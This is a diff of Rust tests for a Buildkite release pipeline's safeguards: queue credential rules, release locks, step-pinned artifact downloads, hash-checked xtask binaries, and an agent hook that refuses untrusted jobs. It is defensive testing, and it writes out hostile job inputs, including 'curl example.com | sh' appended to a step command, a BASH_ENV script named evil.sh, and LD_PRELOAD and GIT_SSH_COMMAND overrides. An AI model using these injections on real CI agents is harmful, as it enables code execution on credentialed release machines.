@@ -10,14 +10,13 @@ use xtask::domain::{
         queues::{self, Queue},
         test_stack_role,
     },
-    publishing::digest::sha256_hex,
 };
 use xtask_aws::{
     pipeline::{Pipeline, RELEASE_BLOCK_LABEL, RELEASE_NAME_FIELD},
     pipeline_use,
 };
 
-use crate::support::{config, git, system_tool, text, venv_tool, workspace_root};
+use crate::support::{config, git, image_keys, system_tool, text, venv_tool, workspace_root};
 
 fn pipeline_text() -> String {
     std::fs::read_to_string(workspace_root().join(".buildkite/pipeline.yml")).unwrap()
@@ -83,8 +82,8 @@ fn a_meta_data_key_no_block_step_asks_for_breaks_the_check() {
         );
     }
     let found = problems(&broken(
-        "      - .buildkite/xtask.sh publish-installer --artifacts target/artifacts",
-        "      - buildkite-agent meta-data get approver\n      - .buildkite/xtask.sh publish-installer --artifacts target/artifacts",
+        "      - cargo xtask publish-installer --artifacts target/artifacts",
+        "      - buildkite-agent meta-data get approver\n      - cargo xtask publish-installer --artifacts target/artifacts",
     ));
     assert!(found.iter().any(|p| p.contains("step publish reads meta-data approver")), "{found:?}");
 }
@@ -105,13 +104,8 @@ fn a_step_using_the_prebuilt_xtask_without_waiting_for_its_build_breaks_the_chec
 #[test]
 fn a_step_on_the_wrong_queue_or_outside_the_release_group_breaks_the_check() {
     let publish_on_ops = broken(
-        "      - .buildkite/xtask.sh publish-installer --artifacts target/artifacts\n",
-        "      - .buildkite/xtask.sh publish-installer --artifacts target/artifacts\n    # moved\n",
-    )
-    .replacen(
-        "    depends_on: [release-templates, installer-linux, installer-mac]\n    agents:\n      queue: release\n",
-        "    depends_on: [release-templates, installer-linux, installer-mac]\n    agents:\n      queue: ops\n",
-        1,
+        "    depends_on: [release-templates, installer-linux, installer-linux-again, installer-mac]\n    agents:\n      queue: release\n",
+        "    depends_on: [release-templates, installer-linux, installer-linux-again, installer-mac]\n    agents:\n      queue: ops\n",
     );
     let packer_on_build = broken(
         "    depends_on: build-block\n    agents:\n      queue: ops\n",
@@ -121,18 +115,41 @@ fn a_step_on_the_wrong_queue_or_outside_the_release_group_breaks_the_check() {
     let unknown_queue =
         broken("    key: ci\n    agents:\n      queue: build\n", "    key: ci\n    agents:\n      queue: default\n");
     let no_group = broken(
-        "    concurrency: 1\n    command:\n      - buildkite-agent artifact download target/dist/amis-release.json .\n",
-        "    command:\n      - buildkite-agent artifact download target/dist/amis-release.json .\n",
+        "    concurrency: 1\n    command:\n      - cargo xtask release-lock acquire --build \"$BUILDKITE_BUILD_ID\"\n      - buildkite-agent artifact download target/dist/amis-release.json",
+        "    command:\n      - cargo xtask release-lock acquire --build \"$BUILDKITE_BUILD_ID\"\n      - buildkite-agent artifact download target/dist/amis-release.json",
     );
+    let no_lock = broken(
+        "      - cargo xtask release-lock acquire --build \"$BUILDKITE_BUILD_ID\"\n      - buildkite-agent artifact download target/dist/amis-release.json",
+        "      - buildkite-agent artifact download target/dist/amis-release.json",
+    );
+    let prebuilt_on_release = broken(
+        "      - cargo xtask cfn upload --dir target/cfn/release --release",
+        "      - .buildkite/xtask.sh cfn upload --dir target/cfn/release --release",
+    );
+    let unnamed_download = broken("target/artifacts --step installer-mac", "target/artifacts");
+    let wrong_step_download =
+        broken("target/artifacts --step installer-mac", "target/artifacts --step installer-linux");
     let status_on_build =
         broken("    command: .buildkite/xtask.sh verify\n", "    command: .buildkite/xtask.sh status v1\n");
     let dangling = broken("depends_on: release-amis", "depends_on: release-amiz");
-    let found: Vec<String> =
-        [publish_on_ops, packer_on_build, no_queue, unknown_queue, no_group, status_on_build, dangling]
-            .iter()
-            .flat_map(|text| problems(text))
-            .collect();
+    let broken_pipelines = [
+        publish_on_ops,
+        packer_on_build,
+        no_queue,
+        unknown_queue,
+        no_group,
+        status_on_build,
+        dangling,
+        no_lock,
+        prebuilt_on_release,
+        unnamed_download,
+        wrong_step_download,
+    ];
+    let found: Vec<String> = broken_pipelines.iter().flat_map(|text| problems(text)).collect();
     expect![[r#"
+        step publish runs `cargo xtask release-lock acquire --build 0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11`, which writes release artifacts, on ops; only the release queue holds credentials for them
+        step publish runs `cargo xtask publish-installer --artifacts target/artifacts`, which writes release artifacts, on ops; only the release queue holds credentials for them
+        step publish runs `cargo xtask release-lock release --build 0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11`, which writes release artifacts, on ops; only the release queue holds credentials for them
         step internal-amis runs `cargo xtask preflight --queue ops`, which reads AWS with credentials, on build, which holds none
         step internal-amis runs `cargo xtask amis build --commit 0000000000000000000000000000000000000000 --fetch-packages`, which writes internal artifacts, on build; only the ops queue holds credentials for them
         step ci names no queue (agents: queue:), so it would run on whatever agent the default queue has; name one of build, mac, ops, release
@@ -140,9 +157,12 @@ fn a_step_on_the_wrong_queue_or_outside_the_release_group_breaks_the_check() {
         step release-templates runs on the release queue outside concurrency_group readyset/release with concurrency 1, so two releases could write at once
         step verify runs `cargo xtask status v1`, which reads AWS with credentials, on build, which holds none
         step release-templates depends on release-amiz, which no step has as its key
-        step release-templates downloads target/dist/amis-release.json, which no step it depends on uploads
-        step release-templates runs .buildkite/xtask.sh but does not depend on step xtask, which builds it
-        step release-templates takes the release name from meta-data release-name, which no block step before it asks for"#]].assert_eq(&found.join("\n"));
+        step release-templates downloads target/dist/amis-release.json from step release-amis, which is not a step it depends on that uploads it
+        step release-templates takes the release name from meta-data release-name, which no block step before it asks for
+        step release-templates writes release artifacts but does not start with `cargo xtask release-lock acquire --build "$BUILDKITE_BUILD_ID"`, so two release builds could interleave
+        step release-templates runs .buildkite/xtask.sh on the release queue: that binary was built on the build queue, where any branch's code runs; release steps build their own with `cargo xtask`
+        step publish downloads target/dist/*/*-apple-darwin* without --step <key>: any job of the build can upload that path, so name the step whose upload it trusts
+        step publish downloads target/dist/*/*-apple-darwin* from step installer-linux, which is not a step it depends on that uploads it"#]].assert_eq(&found.join("\n"));
 }
 
 /// The block step checks the release name as it is typed, with the rule the xtask
@@ -281,84 +301,238 @@ fn every_command_in_the_release_documents_parses() {
     assert!(checked >= 15, "only {checked} commands found; did the documents lose their code blocks?");
 }
 
-/// The agent hook of the release agents (ops/buildkite-agent/hooks/post-checkout), run
-/// in a checkout as the agent runs it: it lets through only main's commits of the
-/// release pipeline, and says why it refuses anything else.
+/// The hooked agents read main's list of the steps they run; it is this pipeline's own.
 #[test]
-fn the_release_agent_hook_runs_only_mains_commits_of_the_release_pipeline() {
+fn the_trusted_steps_file_is_generated_from_the_pipeline() {
+    let pipeline = Pipeline::parse(&pipeline_text()).unwrap();
+    let text = serde_json::to_string_pretty(&pipeline.trusted_steps()).unwrap() + "\n";
+    expect_test::expect_file!["../../../.buildkite/trusted-steps.json"].assert_eq(&text);
+}
+
+/// A value as the Buildkite agent writes it into BUILDKITE_ENV_FILE: Go's `%q`.
+fn go_quote(value: &str) -> String {
+    let mut out = String::from("\"");
+    for c in value.chars() {
+        match c {
+            '\\' => out += "\\\\",
+            '"' => out += "\\\"",
+            '\n' => out += "\\n",
+            '\t' => out += "\\t",
+            c if (c as u32) < 0x20 => out += &format!("\\x{:02x}", c as u32),
+            c => out.push(c),
+        }
+    }
+    out + "\""
+}
+
+/// One job as the agent hands it to the pre-bootstrap hook: its variables in a file.
+struct Job(std::collections::BTreeMap<String, String>);
+
+impl Job {
+    fn with(mut self, name: &str, value: &str) -> Job {
+        self.0.insert(name.to_owned(), value.to_owned());
+        self
+    }
+    fn without(mut self, name: &str) -> Job {
+        self.0.remove(name);
+        self
+    }
+}
+
+/// The agent hook of the ops, release and mac agents (ops/buildkite-agent/hooks/
+/// pre-bootstrap), run as the agent runs it: its own environment is the agent's, the
+/// job's is a file in Buildkite's format (`KEY="Go-quoted"` lines, or JSON). Main's
+/// trusted steps come from a test repository's main, fetched into the hook's mirror.
+/// Every refusal, and the jobs it lets through; BASH_ENV is shown never to run.
+#[test]
+fn the_agent_hook_refuses_any_job_that_is_not_mains_step_as_main_gives_it() {
     let dir = tempfile::tempdir().unwrap();
-    let (origin, checkout) = (dir.path().join("origin"), dir.path().join("checkout"));
-    std::fs::create_dir(&origin).unwrap();
+    let origin = dir.path().join("origin");
+    std::fs::create_dir_all(origin.join(".buildkite")).unwrap();
     git(&origin, &["init", "--quiet"]);
-    git(&origin, &["commit", "--quiet", "--allow-empty", "-m", "on main"]);
+    std::fs::copy(workspace_root().join(".buildkite/trusted-steps.json"), origin.join(".buildkite/trusted-steps.json"))
+        .unwrap();
+    git(&origin, &["add", "."]);
+    git(&origin, &["commit", "--quiet", "-m", "on main"]);
     let on_main = git(&origin, &["rev-parse", "HEAD"]);
     git(&origin, &["switch", "--quiet", "-c", "feature"]);
     git(&origin, &["commit", "--quiet", "--allow-empty", "-m", "on a branch"]);
     let on_branch = git(&origin, &["rev-parse", "HEAD"]);
-    git(dir.path(), &["clone", "--quiet", origin.to_str().unwrap(), "checkout"]);
-    git(&checkout, &["fetch", "--quiet", "origin", "feature"]);
-    let hook = workspace_root().join("ops/buildkite-agent/hooks/post-checkout");
-    // One job: the commit checked out, the pipeline, branch and commit Buildkite says,
-    // and the agent's own settings.
-    let run = |head: &str, pipeline: &str, branch: &str, commit: &str, agent: &[(&str, &str)]| {
-        git(&checkout, &["checkout", "--quiet", "--detach", head]);
-        let output = Command::new(&hook)
-            .current_dir(&checkout)
-            .env_remove("READYSET_RELEASE_PIPELINE")
-            .env_remove("READYSET_ALLOW_BRANCHES")
-            .envs([("BUILDKITE_PIPELINE_SLUG", pipeline), ("BUILDKITE_BRANCH", branch), ("BUILDKITE_COMMIT", commit)])
-            .envs(agent.iter().copied())
-            .output()
+    let repo = origin.display().to_string();
+    let trusted: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(workspace_root().join(".buildkite/trusted-steps.json")).unwrap())
             .unwrap();
-        let stderr = String::from_utf8_lossy(&output.stderr)
-            .replace(&on_main, "<main>")
-            .replace(&on_branch, "<branch>")
-            .replace(&on_main[..12], "<main, 12 digits>");
-        format!("{:?} {}", output.status.code(), stderr.lines().next().unwrap_or("(nothing)"))
+    let command_of = |key: &str| {
+        let steps = trusted["steps"].as_array().unwrap();
+        steps.iter().find(|s| s["key"] == key).unwrap()["command"].as_str().unwrap().to_owned()
     };
-    let release = [("READYSET_RELEASE_PIPELINE", "readyset")];
-    let ops = [("READYSET_RELEASE_PIPELINE", "readyset"), ("READYSET_ALLOW_BRANCHES", "any")];
+    let marker = dir.path().join("bash-env-ran");
+    let evil = dir.path().join("evil.sh");
+    std::fs::write(&evil, format!("touch {}\n", marker.display())).unwrap();
+    let job = |key: &str, branch: &str, commit: &str| {
+        let vars = [
+            ("BUILDKITE", "true"),
+            ("CI", "true"),
+            ("BUILDKITE_PIPELINE_SLUG", "readyset"),
+            ("BUILDKITE_REPO", repo.as_str()),
+            ("BUILDKITE_BRANCH", branch),
+            ("BUILDKITE_COMMIT", commit),
+            ("BUILDKITE_STEP_KEY", key),
+            ("BUILDKITE_BUILD_ID", "0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11"),
+            ("BUILDKITE_BUILD_NUMBER", "812"),
+            ("BUILDKITE_BUILD_URL", "https://buildkite.com/readyset/readyset/builds/812"),
+            ("BUILDKITE_JOB_ID", "0190a3c2-0000-4f7a-9c55-2b7f7e0d9a11"),
+            ("BUILDKITE_LABEL", "a step"),
+            ("BUILDKITE_MESSAGE", "a \"quoted\"\nmessage of two lines"),
+            ("BUILDKITE_PULL_REQUEST", "false"),
+            ("BUILDKITE_PLUGINS", ""),
+            ("BUILDKITE_AGENT_META_DATA_QUEUE", "release"),
+        ];
+        let mut job = Job(vars.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect());
+        job.0.insert("BUILDKITE_COMMAND".into(), command_of(key));
+        job
+    };
+    let mirror = dir.path().join("mirror");
+    let run = |queue: &str, job: Job, json: bool| {
+        let file = dir.path().join(if json { "env.json" } else { "env" });
+        let mut command = Command::new(workspace_root().join("ops/buildkite-agent/hooks/pre-bootstrap"));
+        command.env_remove("BUILDKITE_ENV_JSON_FILE").env_remove("BUILDKITE_ENV_FILE");
+        if json {
+            std::fs::write(&file, serde_json::to_string(&job.0).unwrap()).unwrap();
+            command.env("BUILDKITE_ENV_JSON_FILE", &file);
+        } else {
+            let lines: Vec<String> = job.0.iter().map(|(k, v)| format!("{k}={}", go_quote(v))).collect();
+            std::fs::write(&file, lines.join("\n") + "\n").unwrap();
+            command.env("BUILDKITE_ENV_FILE", &file);
+        }
+        let agent = [
+            ("READYSET_RELEASE_PIPELINE", "readyset"),
+            ("READYSET_REPO", repo.as_str()),
+            ("READYSET_AGENT_QUEUE", queue),
+            ("READYSET_MAIN_MIRROR", mirror.to_str().unwrap()),
+        ];
+        let output = command.envs(agent.iter().copied()).output().unwrap();
+        let stderr = text(&output.stderr);
+        let lines: Vec<&str> = stderr.lines().filter(|l| !l.contains("only the steps of main's")).collect();
+        assert_eq!(output.status.success(), lines.is_empty(), "{stderr}");
+        let shown = lines
+            .join("\n")
+            .replace(&on_main, "<main>")
+            .replace(&on_main[..12], "<main, 12 digits>")
+            .replace(&on_branch, "<branch>")
+            .replace(&repo, "<repo>");
+        format!("{:?} {}", output.status.code(), if shown.is_empty() { "(nothing)".to_owned() } else { shown })
+    };
+    let publish = || job("publish", "main", &on_main);
+    let interpolated = command_of("publish").replace("$BUILDKITE_BUILD_ID", "0190a3c2-7e1b-4f7a-9c55-2b7f7e0d9a11");
     let outcomes = [
-        ("main's commit of the release pipeline", run(&on_main, "readyset", "main", &on_main, &release)),
-        ("no trusted pipeline configured", run(&on_main, "readyset", "main", &on_main, &[])),
-        ("another pipeline", run(&on_main, "fork", "main", &on_main, &release)),
-        ("a branch", run(&on_branch, "readyset", "feature", &on_branch, &release)),
-        ("a branch's commit built as main", run(&on_branch, "readyset", "main", &on_branch, &release)),
-        ("a short commit ID", run(&on_main, "readyset", "main", &on_main[..12], &release)),
-        ("a checkout of another commit", run(&on_branch, "readyset", "main", &on_main, &release)),
-        ("a branch on an ops agent", run(&on_branch, "readyset", "feature", &on_branch, &ops)),
-        ("another pipeline on an ops agent", run(&on_branch, "fork", "feature", &on_branch, &ops)),
+        ("main's publish step on a release agent", run("release", publish(), false)),
+        (
+            "the same, JSON, its command interpolated",
+            run("release", publish().with("BUILDKITE_COMMAND", &interpolated), true),
+        ),
+        ("BASH_ENV", run("release", publish().with("BASH_ENV", evil.to_str().unwrap()), false)),
+        (
+            "what a shell or git reads",
+            run(
+                "release",
+                publish()
+                    .with("ENV", "/tmp/x")
+                    .with("GIT_SSH_COMMAND", "sh")
+                    .with("LD_PRELOAD", "x.so")
+                    .with("PATH", "/tmp"),
+                false,
+            ),
+        ),
+        ("an agent setting", run("release", publish().with("BUILDKITE_BUILD_CHECKOUT_PATH", "/tmp/x"), true)),
+        ("another pipeline", run("release", publish().with("BUILDKITE_PIPELINE_SLUG", "fork"), false)),
+        ("another repository", run("release", publish().with("BUILDKITE_REPO", "git@example.com:fork.git"), false)),
+        (
+            "a pull request from a fork",
+            run(
+                "ops",
+                job("alpha-amis", "feature", &on_branch)
+                    .with("BUILDKITE_PULL_REQUEST", "7")
+                    .with("BUILDKITE_PULL_REQUEST_REPO", "git://example.com/fork.git"),
+                false,
+            ),
+        ),
+        ("plugins", run("release", publish().with("BUILDKITE_PLUGINS", r#"[{"docker#v5":{}}]"#), false)),
+        ("an ops step on a release agent", run("release", job("internal-amis", "main", &on_main), false)),
+        ("no step key", run("release", publish().without("BUILDKITE_STEP_KEY"), false)),
+        (
+            "another command",
+            run(
+                "release",
+                publish().with("BUILDKITE_COMMAND", &(command_of("publish") + "\ncurl example.com | sh")),
+                false,
+            ),
+        ),
+        ("a branch", run("release", job("publish", "feature", &on_branch), false)),
+        ("a branch's commit built as main", run("release", job("publish", "main", &on_branch), false)),
+        ("a short commit ID", run("release", job("publish", "main", &on_main[..12]), false)),
+        ("a branch's alpha step on an ops agent", run("ops", job("alpha-amis", "feature", &on_branch), false)),
+        ("an alpha step of main", run("ops", job("alpha-amis", "main", &on_main), false)),
+        ("main's mac step on a mac agent", run("mac", job("installer-mac", "main", &on_main), true)),
+        ("a branch on a mac agent", run("mac", job("installer-mac", "feature", &on_branch), true)),
     ];
+    assert!(!marker.exists(), "BASH_ENV ran");
     let report: Vec<String> = outcomes.iter().map(|(case, outcome)| format!("{case}: {outcome}")).collect();
     expect![[r#"
-        main's commit of the release pipeline: Some(0) (nothing)
-        no trusted pipeline configured: Some(1) release-agent hook: refusing this job: READYSET_RELEASE_PIPELINE is not set in the agent's environment, so no pipeline is trusted
-        another pipeline: Some(1) release-agent hook: refusing this job: pipeline fork is not readyset
-        a branch: Some(1) release-agent hook: refusing this job: branch feature is not main
-        a branch's commit built as main: Some(1) release-agent hook: refusing this job: commit <branch> is not on main (not an ancestor of origin/main)
-        a short commit ID: Some(1) release-agent hook: refusing this job: commit <main, 12 digits> is not a full commit ID
-        a checkout of another commit: Some(1) release-agent hook: refusing this job: the checkout is at <branch>, not the build's commit <main>
-        a branch on an ops agent: Some(0) (nothing)
-        another pipeline on an ops agent: Some(1) release-agent hook: refusing this job: pipeline fork is not readyset"#]].assert_eq(&report.join("\n"));
+        main's publish step on a release agent: Some(0) (nothing)
+        the same, JSON, its command interpolated: Some(0) (nothing)
+        BASH_ENV: Some(1) readyset agent hook: refusing this job: the job sets BASH_ENV, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
+        what a shell or git reads: Some(1) readyset agent hook: refusing this job: the job sets ENV, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
+        readyset agent hook: refusing this job: the job sets GIT_SSH_COMMAND, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
+        readyset agent hook: refusing this job: the job sets LD_PRELOAD, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
+        readyset agent hook: refusing this job: the job sets PATH, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
+        an agent setting: Some(1) readyset agent hook: refusing this job: the job sets BUILDKITE_BUILD_CHECKOUT_PATH, which is not one of Buildkite's job variables or the step's own (a shell, git or the agent could act on it before any command runs)
+        another pipeline: Some(1) readyset agent hook: refusing this job: pipeline fork is not readyset
+        another repository: Some(1) readyset agent hook: refusing this job: repository git@example.com:fork.git is not <repo>
+        a pull request from a fork: Some(1) readyset agent hook: refusing this job: it is a build of pull request 7 (from git://example.com/fork.git); pull requests never run on these agents, only branch builds
+        plugins: Some(1) readyset agent hook: refusing this job: the step uses plugins, and no step of main's pipeline for this queue does
+        an ops step on a release agent: Some(1) readyset agent hook: refusing this job: step internal-amis is not a step main's pipeline sends to the release queue (release-amis, release-templates, installer-linux, publish)
+        no step key: Some(1) readyset agent hook: refusing this job: step <no key> is not a step main's pipeline sends to the release queue (release-amis, release-templates, installer-linux, publish)
+        another command: Some(1) readyset agent hook: refusing this job: the command of step publish is not the one main's pipeline gives it:
+          expected: 'cargo xtask release-lock acquire --build "$BUILDKITE_BUILD_ID"\nbuildkite-agent artifact download "target/dist/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux\nbuildkite-agent artifact download "target/dist-again/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux-again\nbuildkite-agent artifact download "target/dist/*/*-apple-darwin*" target/artifacts --step installer-mac\ncargo xtask publish-installer --artifacts target/artifacts\ncargo xtask release-lock release --build "$BUILDKITE_BUILD_ID"'
+          got:      'cargo xtask release-lock acquire --build "$BUILDKITE_BUILD_ID"\nbuildkite-agent artifact download "target/dist/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux\nbuildkite-agent artifact download "target/dist-again/*/x86_64-unknown-linux-gnu*" target/artifacts --step installer-linux-again\nbuildkite-agent artifact download "target/dist/*/*-apple-darwin*" target/artifacts --step installer-mac\ncargo xtask publish-installer --artifacts target/artifacts\ncargo xtask release-lock release --build "$BUILDKITE_BUILD_ID"\ncurl example.com | sh'
+        a branch: Some(1) readyset agent hook: refusing this job: step publish runs on branches main, and this build is of feature
+        readyset agent hook: refusing this job: branch feature is not main
+        a branch's commit built as main: Some(1) readyset agent hook: refusing this job: commit <branch> is not on main (not an ancestor of main as fetched now)
+        a short commit ID: Some(1) readyset agent hook: refusing this job: commit <main, 12 digits> is not a full commit ID
+        a branch's alpha step on an ops agent: Some(0) (nothing)
+        an alpha step of main: Some(1) readyset agent hook: refusing this job: step alpha-amis runs on branches !main, and this build is of main
+        main's mac step on a mac agent: Some(0) (nothing)
+        a branch on a mac agent: Some(1) readyset agent hook: refusing this job: step installer-mac runs on branches main, and this build is of feature
+        readyset agent hook: refusing this job: branch feature is not main"#]].assert_eq(&report.join("\n"));
+    let unset = Command::new(workspace_root().join("ops/buildkite-agent/hooks/pre-bootstrap"))
+        .env_remove("READYSET_RELEASE_PIPELINE")
+        .output()
+        .unwrap();
+    expect![[r#"
+        readyset agent hook: refusing this job: READYSET_RELEASE_PIPELINE is not set in the agent's environment, so this agent trusts no job (RELEASE.md, Agents and their credentials)
+        readyset agent hook: only the steps of main's .buildkite/pipeline.yml run on this agent, as main gives them (RELEASE.md, Agents and their credentials)
+    "#]].assert_eq(&text(&unset.stderr));
 }
 
-/// `.buildkite/xtask.sh` runs the binary of this build only: downloaded into a
-/// directory of the build, and run only if its SHA-256 is the one the build step
-/// recorded. The agent is the rehearsal's stand-in; the "binary" is a script.
+/// `.buildkite/xtask.sh` runs the binary of this build's xtask step only: downloaded
+/// from that step by name into a fresh private directory, and run only if its SHA-256 is
+/// the one Buildkite recorded for that step's upload. The agent is the rehearsal's
+/// stand-in; the "binary" is a script.
 #[test]
 fn the_pipeline_runs_only_the_xtask_binary_its_build_recorded() {
     let dir = tempfile::tempdir().unwrap();
     let (agent, tmp) = (dir.path().join("agent"), dir.path().join("tmp"));
-    let stored = agent.join("artifacts/target/pipeline/xtask-aws");
-    std::fs::create_dir_all(stored.parent().unwrap()).unwrap();
-    std::fs::create_dir_all(agent.join("meta-data")).unwrap();
-    std::fs::create_dir_all(agent.join("bin")).unwrap();
+    for sub in ["bin", "artifacts/xtask/target/pipeline", "artifacts/other/target/pipeline"] {
+        std::fs::create_dir_all(agent.join(sub)).unwrap();
+    }
     std::fs::create_dir_all(&tmp).unwrap();
     std::fs::copy(workspace_root().join("xtask-aws/emulator/buildkite-agent"), agent.join("bin/buildkite-agent"))
         .unwrap();
-    let binary = b"#!/bin/sh\necho \"the xtask of build 42 ran with: $*\"\n";
-    std::fs::write(&stored, binary).unwrap();
-    let record = |sum: &str| std::fs::write(agent.join("meta-data/xtask-aws-sha256"), sum).unwrap();
+    let stored = agent.join("artifacts/xtask/target/pipeline/xtask-aws");
+    std::fs::write(&stored, b"#!/bin/sh\necho \"the xtask of build 42 ran with: $*\"\n").unwrap();
+    // Another job of the build uploads a binary of the same path: never the one run.
+    std::fs::write(agent.join("artifacts/other/target/pipeline/xtask-aws"), b"#!/bin/sh\necho other\n").unwrap();
     let path = format!("{}:{}", agent.join("bin").display(), std::env::var("PATH").unwrap());
     let root = workspace_root().display().to_string();
     let run = |build: Option<&str>| {
@@ -370,32 +544,30 @@ fn the_pipeline_runs_only_the_xtask_binary_its_build_recorded() {
         };
         let output = command.output().unwrap();
         let text = format!("{}{}", text(&output.stdout), text(&output.stderr));
+        let left: Vec<_> = std::fs::read_dir(&tmp).unwrap().collect();
         format!(
-            "{:?} {}",
+            "{:?} {} (left in $TMPDIR: {})",
             output.status.code(),
-            text.replace(&tmp.display().to_string(), "$TMPDIR").replace(&root, "<checkout>").trim_end()
+            text.replace(&root, "<checkout>").trim_end(),
+            left.len()
         )
     };
-    record(&sha256_hex(binary));
-    let mut outcomes = vec![("as recorded", run(Some("0190-b42")))];
-    let downloaded = tmp.join("readyset-xtask-0190-b42/target/pipeline/xtask-aws");
-    std::fs::write(&downloaded, b"#!/bin/sh\necho tampered\n").unwrap();
-    outcomes.push(("changed after the download", run(Some("0190-b42"))));
-    record(&"0".repeat(64));
-    outcomes.push(("another binary recorded", run(Some("0190-b43"))));
+    let mut outcomes = vec![("as built", run(Some("0190-b42")))];
+    // The stand-in's record is the stored file's digest: a record of other bytes is a
+    // download that differs from the upload.
+    let shasum = agent.join("bin/buildkite-agent");
+    let real = std::fs::read_to_string(&shasum).unwrap();
+    std::fs::write(&shasum, real.replace("    echo \"${sum%% *}\"", &format!("    echo {}", "0".repeat(64)))).unwrap();
+    outcomes.push(("a download that is not what the step uploaded", run(Some("0190-b42"))));
     outcomes.push(("outside Buildkite", run(None)));
-    outcomes.push(("a build ID with a path in it", run(Some("../b42"))));
     let report: Vec<String> = outcomes.iter().map(|(case, outcome)| format!("{case}: {outcome}")).collect();
     expect![[r#"
-        as recorded: Some(0) downloaded 1 file(s) for target/pipeline/xtask-aws
-        the xtask of build 42 ran with: status v1
-        changed after the download: Some(1) refusing to run $TMPDIR/readyset-xtask-0190-b42/target/pipeline/xtask-aws: its sha256 is 7e40d73947def685849713b029b6c69910b8c1f18b0496f268e5042300232eee, and this build's xtask step recorded 38ff0f2469556f5c2f9db9d962d4c46c417ba3bc3a6dc563df6cfa6bd327c344.
-        Delete $TMPDIR/readyset-xtask-0190-b42 and retry the step; if it fails again, retry the "Build the xtask" step.
-        another binary recorded: Some(1) downloaded 1 file(s) for target/pipeline/xtask-aws
-        refusing to run $TMPDIR/readyset-xtask-0190-b43/target/pipeline/xtask-aws: its sha256 is 38ff0f2469556f5c2f9db9d962d4c46c417ba3bc3a6dc563df6cfa6bd327c344, and this build's xtask step recorded 0000000000000000000000000000000000000000000000000000000000000000.
-        Delete $TMPDIR/readyset-xtask-0190-b43 and retry the step; if it fails again, retry the "Build the xtask" step.
-        outside Buildkite: Some(1) <checkout>/.buildkite/xtask.sh: line 6: BUILDKITE_BUILD_ID: .buildkite/xtask.sh runs inside a Buildkite job; elsewhere run cargo xtask
-        a build ID with a path in it: Some(1) BUILDKITE_BUILD_ID ../b42 is not a build ID"#]].assert_eq(&report.join("\n"));
+        as built: Some(0) the xtask of build 42 ran with: status v1
+        downloaded 1 file(s) for target/pipeline/xtask-aws from step xtask (left in $TMPDIR: 0)
+        a download that is not what the step uploaded: Some(1) downloaded 1 file(s) for target/pipeline/xtask-aws from step xtask
+        refusing to run the xtask: the download of target/pipeline/xtask-aws from step xtask has sha256 38ff0f2469556f5c2f9db9d962d4c46c417ba3bc3a6dc563df6cfa6bd327c344, and Buildkite recorded 0000000000000000000000000000000000000000000000000000000000000000 for that step's upload.
+        Retry this step; if it fails again, retry the "Build the xtask" step. (left in $TMPDIR: 0)
+        outside Buildkite: Some(1) <checkout>/.buildkite/xtask.sh: line 8: BUILDKITE_BUILD_ID: .buildkite/xtask.sh runs inside a Buildkite job; elsewhere run cargo xtask (left in $TMPDIR: 0)"#]].assert_eq(&report.join("\n"));
 }
 
 /// RELEASE.md shows each queue's policy, and the test-stack role's trust and policy,
@@ -406,7 +578,9 @@ fn the_release_document_shows_the_policies_the_xtask_prints() {
     let pretty = |policy: serde_json::Result<String>| policy.unwrap();
     let mut printed: Vec<(String, String)> = [Queue::Ops, Queue::Release]
         .into_iter()
-        .map(|queue| (queue.to_string(), pretty(serde_json::to_string_pretty(&queues::policy(queue, config())))))
+        .map(|queue| {
+            (queue.to_string(), pretty(serde_json::to_string_pretty(&queues::policy(queue, config(), image_keys()))))
+        })
         .collect();
     printed.push(("test-stacks".into(), pretty(serde_json::to_string_pretty(&test_stack_role::policy(config())))));
     printed
